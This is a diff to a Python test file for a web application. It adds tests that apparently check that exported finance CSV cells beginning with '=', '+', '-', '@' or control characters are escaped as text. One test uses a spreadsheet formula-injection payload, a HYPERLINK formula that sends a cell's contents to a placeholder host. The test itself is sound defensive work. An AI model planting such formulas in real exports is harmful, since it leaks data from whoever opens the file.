@@ -1,4 +1,5 @@
 """Every download's file name: Chinese in RFC 5987's filename*, an ASCII fallback, nothing of a user's unescaped."""
+from decimal import Decimal
 from urllib.parse import quote
 
 import pytest
@@ -6,7 +7,7 @@ import sqlalchemy as sa
 
 from blueprints import content_disposition
 from domain import applications as verbs
-from models import Application, Document, Organisation, Role, User, db
+from models import Application, Document, FundItem, Organisation, Role, User, db
 from tests.conftest import unit_by_code, zone_today
 from tests.test_documents import approve
 
@@ -118,3 +119,37 @@ def test_an_issued_document_opens_in_place_under_its_number(app, client, login_a
     response = client.get(f"/applications/{made.id}/approval.pdf")
     assert response.headers["Content-Disposition"] == disposition("inline", f"pifu-{year}-{serial}.pdf",
                                                                   f"{number}.pdf")
+
+
+def test_a_unit_named_as_a_formula_is_text_in_the_fund_overview_csv(app, client, login_as, make_fund):
+    """An administrator renames a unit to a formula; the finance officer's CSV must not run it in Excel."""
+    import csv
+    import io
+
+    item = make_fund("checked")
+    with app.app_context():
+        unit_id = db.session.get(FundItem, item.id).organisation.unit_id
+    formula = '=HYPERLINK("http://x/?"&A2,"点")'
+    login_as(Role.ADMIN)
+    assert client.post(f"/admin/units/{unit_id}/edit", data={"name": formula, "superior": ""}).status_code == 302
+    client.post("/auth/logout")
+    login_as(Role.FINANCE)
+    rows = list(csv.reader(io.StringIO(client.get("/finance/overview.csv").data.decode("utf-8-sig"))))
+    row = next(row for row in rows if formula in row[0])
+    assert row[0] == "'" + formula
+    assert row[1] == str(zone_today().year) and row[2] == "1"  # numbers stay numbers
+
+
+@pytest.mark.parametrize("cell, written", [
+    ("=1+1", "'=1+1"), ("+86 138", "'+86 138"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("党委", "党委"), ("a=1", "a=1"), (-5, "-5"), (Decimal("-1.50"), "-1.50"),
+])
+def test_csv_cells_that_a_spreadsheet_would_run_are_kept_as_text(cell, written):
+    import csv
+    import io
+
+    from domain.workbooks import csv_bytes
+
+    data = csv_bytes([["头", cell]])
+    assert data.startswith("\ufeff".encode())
+    assert next(csv.reader(io.StringIO(data.decode("utf-8-sig")))) == ["头", written]
